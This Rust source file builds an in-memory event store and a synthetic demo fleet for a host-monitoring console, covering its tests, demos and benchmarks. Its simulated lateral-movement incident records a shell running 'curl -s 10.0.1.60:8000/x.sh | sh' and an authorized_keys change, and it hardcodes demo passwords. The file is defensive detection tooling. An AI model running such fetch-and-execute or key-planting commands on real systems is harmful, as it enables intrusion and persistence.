//! An in-memory [`ReadApi`] and the demo fleet used by tests, the browser
//! walk-through, screenshots and the bench. Not used by the appliance.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use vigil_proto::event::*;
use vigil_proto::query::*;

const S: u64 = 1_000_000_000;
const MIN: u64 = 60 * S;
const HOUR: u64 = 60 * MIN;

/// A [`ReadApi`] over plain vectors. Events are kept per host, sorted by
/// (ts, seq); alerts newest first.
#[derive(Debug, Clone, Default)]
pub struct MemoryReadApi {
    pub hosts: Vec<HostSummary>,
    pub events: BTreeMap<HostId, Vec<Event>>,
    pub alerts: Vec<AlertRecord>,
    pub edges: Vec<EdgeRecord>,
    pub stats: ApplianceStats,
}

fn user_of(e: &Event) -> Option<&str> {
    match &e.payload {
        Payload::ProcessStart(p) => p.user.as_deref(),
        Payload::Login(l) | Payload::Logout(l) | Payload::AuthFailure(l) => Some(&l.user),
        _ => None,
    }
}

fn peer_of(e: &Event) -> Option<IpAddr> {
    match &e.payload {
        Payload::NetConnect(f) | Payload::NetAccept(f) => Some(f.remote.ip()),
        Payload::Login(l) | Payload::Logout(l) | Payload::AuthFailure(l) => l.src_addr,
        _ => None,
    }
}

/// Whether `e` satisfies every set field of `f` (except paging).
pub fn matches(f: &EventFilter, e: &Event) -> bool {
    let h = &e.header;
    if f.host.is_some_and(|x| x != h.host)
        || f.since_ns.is_some_and(|s| h.ts_ns < s)
        || f.until_ns.is_some_and(|u| h.ts_ns >= u)
        || (!f.kinds.is_empty() && !f.kinds.contains(&e.kind()))
    {
        return false;
    }
    if let Some(u) = &f.user {
        if user_of(e) != Some(u.as_str()) {
            return false;
        }
    }
    if f.peer.is_some() && peer_of(e) != f.peer {
        return false;
    }
    if let Some(port) = f.port {
        match &e.payload {
            Payload::NetConnect(fl) | Payload::NetAccept(fl) => {
                if fl.local.port() != port && fl.remote.port() != port {
                    return false;
                }
            }
            _ => return false,
        }
    }
    if let Some(p) = &f.process {
        let hit = match &e.payload {
            Payload::ProcessStart(ps) => {
                ps.exe.as_deref().is_some_and(|x| x.contains(p.as_str()))
                    || ps.argv.iter().any(|a| a.contains(p.as_str()))
            }
            Payload::ProcessExit(px) => px.exe.as_deref().is_some_and(|x| x.contains(p.as_str())),
            Payload::NetConnect(fl) | Payload::NetAccept(fl) => {
                fl.exe.as_deref().is_some_and(|x| x.contains(p.as_str()))
            }
            _ => false,
        };
        if !hit {
            return false;
        }
    }
    true
}

impl ReadApi for MemoryReadApi {
    fn hosts(&self) -> Result<Vec<HostSummary>, QueryError> {
        Ok(self.hosts.clone())
    }
    fn host(&self, id: HostId) -> Result<HostSummary, QueryError> {
        self.hosts
            .iter()
            .find(|h| h.id == id)
            .cloned()
            .ok_or_else(|| QueryError::NotFound(format!("host {id}")))
    }
    fn events(&self, f: &EventFilter) -> Result<EventPage, QueryError> {
        let limit = f.limit.clamp(1, 10_000);
        if let (true, Some(h)) = (f.newest_first, f.host) {
            let events = self
                .events
                .get(&h)
                .into_iter()
                .flatten()
                .rev()
                .filter(|e| f.since_ns.is_none_or(|s| e.header.ts_ns >= s))
                .filter(|e| f.until_ns.is_none_or(|u| e.header.ts_ns < u))
                .filter(|e| matches(f, e))
                .take(limit)
                .cloned()
                .collect();
            return Ok(EventPage { events, next: None });
        }
        let mut out = Vec::new();
        let hosts: Box<dyn Iterator<Item = (&HostId, &Vec<Event>)>> = match f.host {
            Some(h) => Box::new(self.events.get_key_value(&h).into_iter()),
            None => Box::new(self.events.iter()),
        };
        for (host, evs) in hosts {
            if f.after.is_some_and(|c| *host < c.host) {
                continue;
            }
            let start = match f.since_ns {
                Some(s) => evs.partition_point(|e| e.header.ts_ns < s),
                None => 0,
            };
            for e in &evs[start..] {
                if f.until_ns.is_some_and(|u| e.header.ts_ns >= u) {
                    break;
                }
                if let Some(c) = f.after {
                    if *host == c.host && (e.header.ts_ns, e.header.seq) <= (c.ts_ns, c.seq) {
                        continue;
                    }
                }
                if !matches(f, e) {
                    continue;
                }
                if out.len() == limit {
                    let last: &Event = &out[limit - 1];
                    let next = EventCursor {
                        host: last.header.host,
                        ts_ns: last.header.ts_ns,
                        seq: last.header.seq,
                    };
                    return Ok(EventPage {
                        events: out,
                        next: Some(next),
                    });
                }
                out.push(e.clone());
            }
        }
        Ok(EventPage {
            events: out,
            next: None,
        })
    }
    fn event(&self, host: HostId, seq: u64) -> Result<Event, QueryError> {
        self.events
            .get(&host)
            .and_then(|v| v.iter().find(|e| e.header.seq == seq))
            .cloned()
            .ok_or_else(|| QueryError::NotFound(format!("event {host}/{seq}")))
    }
    fn alerts(&self, f: &AlertFilter) -> Result<Vec<AlertRecord>, QueryError> {
        let open = |a: &AlertRecord| {
            !matches!(
                a.state,
                TriageState::ClosedFalsePositive | TriageState::ClosedTruePositive
            )
        };
        Ok(self
            .alerts
            .iter()
            .filter(|a| f.since_ns.is_none_or(|s| a.created_ns >= s))
            .filter(|a| f.host.is_none_or(|h| a.path.contains(&h)))
            .filter(|a| !f.open_only || open(a))
            .filter(|a| f.min_severity.is_none_or(|s| a.severity >= s))
            .take(if f.limit == 0 { usize::MAX } else { f.limit })
            .cloned()
            .collect())
    }
    fn alert(&self, id: u64) -> Result<AlertRecord, QueryError> {
        self.alerts
            .iter()
            .find(|a| a.id == id)
            .cloned()
            .ok_or_else(|| QueryError::NotFound(format!("alert {id}")))
    }
    fn edges(&self, since_ns: u64) -> Result<Vec<EdgeRecord>, QueryError> {
        Ok(self
            .edges
            .iter()
            .filter(|e| e.last_seen_ns >= since_ns)
            .cloned()
            .collect())
    }
    fn stats(&self) -> Result<ApplianceStats, QueryError> {
        Ok(self.stats.clone())
    }
}

/// Builds one host's event stream with gap-free sequence numbers.
pub struct EventWriter {
    host: HostId,
    seq: u64,
    /// Events written so far.
    pub events: Vec<Event>,
}

fn ip(last: u8) -> Ipv4Addr {
    Ipv4Addr::new(10, 0, 1, last)
}

impl EventWriter {
    /// A writer for `host`, starting at seq 1.
    pub fn new(host: HostId) -> Self {
        EventWriter {
            host,
            seq: 0,
            events: Vec::new(),
        }
    }
    /// Append a payload at `ts_ns`; returns its seq.
    pub fn push(&mut self, ts_ns: u64, payload: Payload) -> u64 {
        self.seq += 1;
        self.events.push(Event {
            header: EventHeader {
                host: self.host,
                seq: self.seq,
                ts_ns,
            },
            payload,
        });
        self.seq
    }
    /// A process start.
    #[allow(clippy::too_many_arguments)] // mirrors the ProcessStart fields a test sets
    pub fn exec(
        &mut self,
        ts: u64,
        pid: u32,
        ppid: u32,
        exe: &str,
        argv: &[&str],
        user: &str,
        parent: &str,
    ) -> u64 {
        self.push(
            ts,
            Payload::ProcessStart(ProcessStart {
                pid,
                ppid,
                exe: Some(exe.into()),
                argv: argv.iter().map(|s| s.to_string()).collect(),
                uid: Some(if user == "root" { 0 } else { 1000 }),
                user: Some(user.into()),
                cwd: Some("/".into()),
                parent_exe: Some(parent.into()),
                start_time_ns: Some(ts),
                netns: 0,
                exited_before_enrichment: false,
            }),
        )
    }
    /// An outbound TCP connection (or inbound with `accept`).
    pub fn flow(
        &mut self,
        ts: u64,
        accept: bool,
        local: SocketAddr,
        remote: SocketAddr,
        exe: &str,
    ) -> u64 {
        let fl = NetFlow {
            transport: Transport::Tcp,
            local,
            remote,
            pid: Some(4242),
            exe: Some(exe.into()),
            repeat: 1,
        };
        self.push(
            ts,
            if accept {
                Payload::NetAccept(fl)
            } else {
                Payload::NetConnect(fl)
            },
        )
    }
    /// A login (or failure) over SSH.
    pub fn login(&mut self, ts: u64, ok: bool, user: &str, src: Option<IpAddr>) -> u64 {
        let info = LoginInfo {
            user: user.into(),
            method: AuthMethod::PublicKey,
            service: LoginService::Ssh,
            src_addr: src,
            src_port: src.map(|_| 50_122),
            src_host: None,
            from_user: None,
            pid: Some(3100),
        };
        self.push(
            ts,
            if ok {
                Payload::Login(info)
            } else {
                Payload::AuthFailure(info)
            },
        )
    }
    /// A watched file change.
    pub fn file(&mut self, ts: u64, path: &str, op: FileOp) -> u64 {
        self.push(
            ts,
            Payload::FileChange(FileChange {
                path: path.into(),
                op,
                size: Some(742),
                mode: Some(0o600),
                uid: Some(0),
                sha256: Some([0xab; 32]),
                pid: Some(3150),
            }),
        )
    }
}

fn sock(last: u8, port: u16) -> SocketAddr {
    SocketAddr::new(IpAddr::V4(ip(last)), port)
}

/// A host summary with sensible defaults.
pub fn host(id: u64, name: &str, os: &str, last: u8, now: u64) -> HostSummary {
    HostSummary {
        id: HostId(id),
        hostname: name.into(),
        os: os.into(),
        addrs: vec![IpAddr::V4(ip(last))],
        sensor_version: "0.1.0".into(),
        enrolled_ns: now - 30 * 24 * HOUR,
        last_seen_ns: now - 7 * S,
        state: SensorState::Online,
        cpu_pct: 0.4,
        rss_bytes: 31 << 20,
        events_total: 0,
        lost_total: 0,
        isolated: false,
        open_alerts: 0,
    }
}

/// Routine background activity for one host over the last 48 hours.
fn routine(w: &mut EventWriter, me: u8, now: u64, salt: u64) {
    let start = now - 48 * HOUR;
    for h in 0..48u64 {
        let t = start + h * HOUR + (salt * 7 + h * 13) % 50 * MIN;
        let busy = if (8..18).contains(&((h + 14) % 24)) {
            3
        } else {
            1
        };
        for k in 0..busy + (salt + h) % 2 {
            w.flow(
                t + k * 90 * S,
                false,
                sock(me, 40_000 + k as u16),
                sock(70, 389),
                "/usr/sbin/sssd",
            );
        }
        w.flow(
            t + 5 * MIN,
            false,
            sock(me, 41_000),
            sock(20, 443),
            "/usr/bin/curl",
        );
        if h % 6 == 0 {
            w.exec(
                t + 2 * MIN,
                2000 + h as u32,
                1,
                "/usr/sbin/cron",
                &["/usr/sbin/cron", "-f"],
                "root",
                "/usr/lib/systemd/systemd",
            );
            w.exec(
                t + 2 * MIN + S,
                2001 + h as u32,
                2000 + h as u32,
                "/usr/bin/logrotate",
                &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
                "root",
                "/usr/sbin/cron",
            );
        }
    }
}

/// The demo fleet at time `now` (ns): seven hosts, routine traffic, and one
/// lateral-movement incident hr-laptop-05 → jump-06 → db-03 two hours ago.
pub fn demo_read_api_at(now: u64) -> MemoryReadApi {
    let names: [(u64, &str, &str, u8); 7] = [
        (0x0a01, "web-01", "Debian 12", 10),
        (0x0a02, "app-02", "Debian 12", 20),
        (0x0a03, "db-03", "Debian 12", 30),
        (0x0a04, "build-04", "Ubuntu 24.04", 40),
        (0x0a05, "hr-laptop-05", "Ubuntu 24.04", 50),
        (0x0a06, "jump-06", "Debian 12", 60),
        (0x0a07, "dc-07", "Windows Server 2022", 70),
    ];
    let mut api = MemoryReadApi::default();
    let mut writers: BTreeMap<u64, EventWriter> = BTreeMap::new();
    for (i, (id, name, os, last)) in names.iter().enumerate() {
        api.hosts.push(host(*id, name, os, *last, now));
        let mut w = EventWriter::new(HostId(*id));
        routine(&mut w, *last, now, i as u64);
        writers.insert(*id, w);
    }
    // Fleet health variety.
    api.hosts[3].state = SensorState::Stale;
    api.hosts[3].last_seen_ns = now - 4 * MIN;
    api.hosts[6].state = SensorState::Offline;
    api.hosts[6].last_seen_ns = now - 26 * HOUR;
    api.hosts[6].sensor_version = "0.0.9".into();
    api.hosts[1].cpu_pct = 0.9;
    api.hosts[2].rss_bytes = 44 << 20;

    // The incident: A = hr-laptop-05, B = jump-06, C = db-03.
    let t0 = now - 2 * HOUR - 17 * MIN;
    let a = writers.get_mut(&0x0a05).expect("host a");
    a.exec(
        t0 - 3 * MIN,
        5120,
        4800,
        "/usr/bin/ssh",
        &["ssh", "svc-backup@jump-06"],
        "alice",
        "/usr/bin/bash",
    );
    let ev_a = a.flow(t0, false, sock(50, 51_000), sock(60, 22), "/usr/bin/ssh");
    let b = writers.get_mut(&0x0a06).expect("host b");
    let ev_b_acc = b.flow(
        t0 + S,
        true,
        sock(60, 22),
        sock(50, 51_000),
        "/usr/sbin/sshd",
    );
    let ev_b_login = b.login(t0 + 2 * S, true, "svc-backup", Some(IpAddr::V4(ip(50))));
    b.exec(
        t0 + 3 * S,
        6001,
        6000,
        "/usr/bin/bash",
        &["-bash"],
        "svc-backup",
        "/usr/sbin/sshd",
    );
    let ev_b_out = b.flow(
        t0 + 4 * MIN,
        false,
        sock(60, 52_000),
        sock(30, 22),
        "/usr/bin/ssh",
    );
    let c = writers.get_mut(&0x0a03).expect("host c");
    let ev_c_login = c.login(
        t0 + 4 * MIN + S,
        true,
        "svc-backup",
        Some(IpAddr::V4(ip(60))),
    );
    c.exec(
        t0 + 4 * MIN + 2 * S,
        7001,
        7000,
        "/usr/bin/bash",
        &["bash", "-c", "curl -s 10.0.1.60:8000/x.sh | sh"],
        "svc-backup",
        "/usr/sbin/sshd",
    );
    c.exec(
        t0 + 4 * MIN + 3 * S,
        7002,
        7001,
        "/usr/bin/curl",
        &["curl", "-s", "10.0.1.60:8000/x.sh"],
        "svc-backup",
        "/usr/bin/bash",
    );
    let ev_c_file = c.file(
        t0 + 9 * MIN,
        "/home/svc-backup/.ssh/authorized_keys",
        FileOp::Modified,
    );
    let w1 = writers.get_mut(&0x0a01).expect("web");
    let mut fails = Vec::new();
    for k in 0..12 {
        fails.push(w1.login(
            now - 40 * MIN + k * 4 * S,
            false,
            "root",
            Some(IpAddr::V4(Ipv4Addr::new(10, 0, 9, 14))),
        ));
    }
    let bld = writers.get_mut(&0x0a04).expect("build");
    let ev_rare = bld.exec(
        now - 25 * MIN,
        9100,
        9000,
        "/tmp/go-build3321/b001/exe/a.out",
        &["./a.out", "--test.v"],
        "ci",
        "/usr/bin/go",
    );
    let hw = writers.get_mut(&0x0a07).expect("dc");
    hw.push(
        now - 27 * HOUR,
        Payload::Loss(LossRecord {
            from_seq: 900,
            to_seq: 1019,
            count: 120,
            reason: LossReason::SpoolFull,
        }),
    );

    for (id, w) in writers {
        let mut evs = w.events;
        evs.sort_by_key(|e| (e.header.ts_ns, e.header.seq));
        let h = api
            .hosts
            .iter_mut()
            .find(|h| h.id == HostId(id))
            .expect("host");
        h.events_total = evs.len() as u64;
        api.events.insert(HostId(id), evs);
    }
    api.hosts[6].lost_total = 120;

    let (ha, hb, hc) = (HostId(0x0a05), HostId(0x0a06), HostId(0x0a03));
    let dev = |feature: &str, observed: f64, baseline: f64, score: f64, sentence: &str| {
        FeatureDeviation {
            feature: feature.into(),
            observed,
            baseline,
            score,
            sentence: sentence.into(),
        }
    };
    let mut alerts = vec![AlertRecord {
        ports: vec![22],
        processes: vec!["bash".into()],
        id: 101,
        created_ns: t0 + 10 * MIN,
        severity: Severity::Critical,
        score: 0.97,
        title: "Lateral movement: hr-laptop-05 → jump-06 → db-03".into(),
        path: vec![ha, hb, hc],
        users: vec!["svc-backup".into()],
        techniques: vec!["T1021.004".into(), "T1078".into(), "T1098.004".into()],
        summary: "An SSH session from hr-laptop-05 to jump-06 was followed four minutes later by a second hop from jump-06 to db-03 with the same account, where a shell fetched and ran a script and authorized_keys was changed.".into(),
        deviations: vec![
            dev("new_peers", 1.0, 0.02, 5.9, "jump-06 accepted SSH from hr-laptop-05, a peer it had never talked to in 14 days of baseline."),
            dev("new_user_src_dst", 1.0, 0.0, 6.4, "svc-backup logged in to db-03 from jump-06 for the first time; this account normally logs in only from build-04."),
            dev("remote_spawned", 2.0, 0.1, 4.8, "The SSH session on db-03 started bash running `curl … | sh`; remote sessions on db-03 spawn a shell 0.1 times per day."),
            dev("chain_minutes", 4.0, 0.0, 4.1, "The second hop started 4 minutes after the first, on the same account: one campaign, not two events."),
        ],
        evidence: vec![(ha, ev_a), (hb, ev_b_acc), (hb, ev_b_login), (hb, ev_b_out), (hc, ev_c_login), (hc, ev_c_file)],
        state: TriageState::New,
        assignee: None,
        incident_id: None,
        model_version: Some("graph-novelty v3 · 9f2c41e0".into()),
    }];
    alerts.push(AlertRecord {
        ports: Vec::new(),
        processes: Vec::new(),
        id: 104,
        created_ns: now - 38 * MIN,
        severity: Severity::Medium,
        score: 0.61,
        title: "Burst of SSH authentication failures".into(),
        path: vec![HostId(0x0a01)],
        users: vec!["root".into()],
        techniques: vec!["T1110.001".into()],
        summary: "12 failed root logins over SSH from 10.0.9.14 in 48 seconds.".into(),
        deviations: vec![dev(
            "auth_failures",
            12.0,
            0.4,
            3.7,
            "web-01 saw 12 failed logins in 5 minutes against a baseline of 0.4.",
        )],
        evidence: fails.iter().take(3).map(|s| (HostId(0x0a01), *s)).collect(),
        state: TriageState::New,
        assignee: None,
        incident_id: None,
        model_version: Some("gmm v2 · 31bd07aa".into()),
    });
    let rare = |id: u64, created: u64, state: TriageState| AlertRecord {
        ports: Vec::new(),
        processes: Vec::new(),
        id,
        created_ns: created,
        severity: Severity::Low,
        score: 0.34,
        title: "Rare binary executed".into(),
        path: vec![HostId(0x0a04)],
        users: vec!["ci".into()],
        techniques: vec![],
        summary: "A binary never seen on build-04 ran from /tmp.".into(),
        deviations: vec![dev(
            "rare_binaries",
            1.0,
            0.2,
            2.1,
            "build-04 ran /tmp/go-build3321/b001/exe/a.out, never seen on this host.",
        )],
        evidence: vec![(HostId(0x0a04), ev_rare)],
        state,
        assignee: None,
        incident_id: None,
        model_version: Some("graph-novelty v3 · 9f2c41e0".into()),
    };
    alerts.push(rare(105, now - 24 * MIN, TriageState::New));
    for d in 1..=6u64 {
        alerts.push(rare(
            90 + d,
            now - d * 24 * HOUR,
            TriageState::ClosedFalsePositive,
        ));
    }
    alerts.sort_by_key(|a| std::cmp::Reverse(a.created_ns));
    for a in &alerts {
        let open = !matches!(
            a.state,
            TriageState::ClosedFalsePositive | TriageState::ClosedTruePositive
        );
        for h in api
            .hosts
            .iter_mut()
            .filter(|h| open && a.path.contains(&h.id))
        {
            h.open_alerts += 1;
        }
    }
    api.alerts = alerts;

    let edge = |s: u64, d: u64, port: u16, user: Option<&str>, first: u64, count: u64| EdgeRecord {
        src: HostId(s),
        dst: HostId(d),
        port,
        user: user.map(Into::into),
        first_seen_ns: first,
        last_seen_ns: now - 3 * MIN,
        count,
    };
    let old = now - 20 * 24 * HOUR;
    api.edges = vec![
        edge(0x0a01, 0x0a02, 8080, None, old, 91_022),
        edge(0x0a02, 0x0a03, 5432, None, old, 55_410),
        edge(0x0a04, 0x0a03, 22, Some("svc-backup"), old, 312),
        edge(0x0a04, 0x0a02, 22, Some("deploy"), old, 880),
        edge(0x0a05, 0x0a02, 443, None, old, 4_002),
        edge(0x0a06, 0x0a01, 22, Some("ops"), old, 240),
        edge(0x0a06, 0x0a02, 22, Some("ops"), old, 198),
        edge(0x0a01, 0x0a07, 389, None, old, 20_551),
        edge(0x0a02, 0x0a07, 389, None, old, 19_876),
        edge(0x0a03, 0x0a07, 389, None, old, 18_002),
        edge(0x0a05, 0x0a07, 445, None, old, 7_301),
        edge(0x0a05, 0x0a06, 22, Some("svc-backup"), t0, 1),
        edge(0x0a06, 0x0a03, 22, Some("svc-backup"), t0 + 4 * MIN, 1),
    ];
    let total: u64 = api.events.values().map(|v| v.len() as u64).sum();
    api.stats = ApplianceStats {
        events_total: total,
        events_per_s: 1_284.6,
        duplicates_total: 37,
        lost_total: 120,
        rejected_frames_total: 2,
        bytes_on_disk: 18_400_000_000,
        retention_days: 90,
        retention_bytes: 500 << 30,
        counters: vec![
            ("rejected_frames{reason=\"malformed\"}".into(), 2),
            ("ingest_batches_total".into(), 1_904_221),
            ("detections_scored_total".into(), 88_410),
        ],
    };
    api
}

/// [`demo_read_api_at`] at the current system time.
pub fn demo_read_api() -> Arc<MemoryReadApi> {
    Arc::new(demo_read_api_at(crate::system_now_ns()))
}

/// A synthetic fleet for the bench: `hosts` hosts with `events_per_host`
/// routine events each, one alert per 20 hosts and three edges per host.
pub fn scaled_read_api(hosts: usize, events_per_host: usize, now: u64) -> MemoryReadApi {
    let mut api = MemoryReadApi::default();
    let mut total = 0u64;
    for i in 0..hosts {
        let id = 0x1_0000 + i as u64;
        let last = (i % 250) as u8 + 1;
        let mut h = host(id, &format!("host-{i:05}"), "Debian 12", last, now);
        h.state = match i % 50 {
            0 => SensorState::Offline,
            1 | 2 => SensorState::Stale,
            _ => SensorState::Online,
        };
        let mut w = EventWriter::new(HostId(id));
        let step = (48 * HOUR) / events_per_host.max(1) as u64;
        for k in 0..events_per_host as u64 {
            let t = now - 48 * HOUR + k * step;
            match k % 4 {
                0 => w.exec(
                    t,
                    1000 + k as u32,
                    1,
                    "/usr/bin/python3",
                    &["python3", "job.py"],
                    "app",
                    "/usr/sbin/cron",
                ),
                1 => w.login(t, true, "ops", Some(IpAddr::V4(ip(60)))),
                _ => w.flow(
                    t,
                    false,
                    sock(last, 40_000),
                    sock(70, 389),
                    "/usr/sbin/sssd",
                ),
            };
        }
        total += w.events.len() as u64;
        h.events_total = w.events.len() as u64;
        api.events.insert(HostId(id), w.events);
        for j in 1..=3u64 {
            api.edges.push(EdgeRecord {
                src: HostId(id),
                dst: HostId(0x1_0000 + (i as u64 + j * 7) % hosts as u64),
                port: [22, 445, 443][j as usize - 1],
                user: None,
                first_seen_ns: now - 10 * 24 * HOUR,
                last_seen_ns: now - HOUR,
                count: 10 * j,
            });
        }
        api.hosts.push(h);
    }
    for a in 0..hosts / 20 {
        let hid = HostId(0x1_0000 + (a * 20) as u64);
        let seqs: Vec<(HostId, u64)> = (1..=4).map(|s| (hid, s)).collect();
        api.alerts.push(AlertRecord {
            ports: Vec::new(),
            processes: Vec::new(),
            id: a as u64 + 1,
            created_ns: now - a as u64 * MIN,
            severity: [
                Severity::Low,
                Severity::Medium,
                Severity::High,
                Severity::Critical,
            ][a % 4],
            score: 0.5,
            title: "New admin-port peer".into(),
            path: vec![hid, HostId(0x1_0000 + ((a * 20 + 1) % hosts) as u64)],
            users: vec!["ops".into()],
            techniques: vec!["T1021.004".into()],
            summary: "First SSH connection between these hosts.".into(),
            deviations: vec![FeatureDeviation {
                feature: "new_peers".into(),
                observed: 1.0,
                baseline: 0.0,
                score: 4.0,
                sentence: "A peer never seen before.".into(),
            }],
            evidence: seqs,
            state: TriageState::New,
            assignee: None,
            incident_id: None,
            model_version: None,
        });
    }
    api.stats = ApplianceStats {
        events_total: total,
        events_per_s: 1000.0,
        ..Default::default()
    };
    api
}

/// Demo accounts: (name, role, password). For tests and the local demo only.
pub const DEMO_USERS: [(&str, crate::store::Role, &str); 3] = [
    ("admin", crate::store::Role::Admin, "admin-demo-password"),
    ("ana", crate::store::Role::Analyst, "analyst-demo-password"),
    ("viv", crate::store::Role::Viewer, "viewer-demo-password"),
];

/// A console over the demo fleet at `now`, with the [`DEMO_USERS`] and a
/// clock fixed at `now`. Returns the store too, for inspection in tests.
pub fn demo_state(
    now: u64,
) -> Result<(crate::ConsoleState, Arc<crate::MemoryConsoleStore>), crate::error::UiError> {
    let store = Arc::new(crate::MemoryConsoleStore::new());
    for (name, role, pw) in DEMO_USERS {
        crate::ConsoleStore::put_user(
            store.as_ref(),
            crate::store::User {
                name: name.into(),
                role,
                password_hash: crate::auth::hash_password(pw)?,
                created_ns: now - 10 * 24 * HOUR,
                must_change_password: false,
                disabled: false,
            },
        )?;
    }
    let state = crate::ConsoleState::new(Arc::new(demo_read_api_at(now)), store.clone())
        .with_clock(Arc::new(move || now));
    Ok((state, store))
}
